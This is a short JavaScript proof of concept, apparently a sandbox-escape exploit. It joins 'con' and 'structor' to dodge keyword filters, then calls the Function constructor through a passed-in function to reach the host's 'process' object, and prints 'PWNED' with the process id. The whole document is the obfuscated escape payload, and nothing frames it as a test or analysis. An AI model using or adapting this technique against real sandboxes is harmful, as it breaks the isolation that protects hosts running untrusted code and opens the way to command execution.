const w = ['con', 'structor'].join('');
class A {
  static constructor(f) { return f; }
  constructor(f) { this.pid = f[w]('return process')().pid; }
}
console.log('PWNED', new A((x) => x).pid);
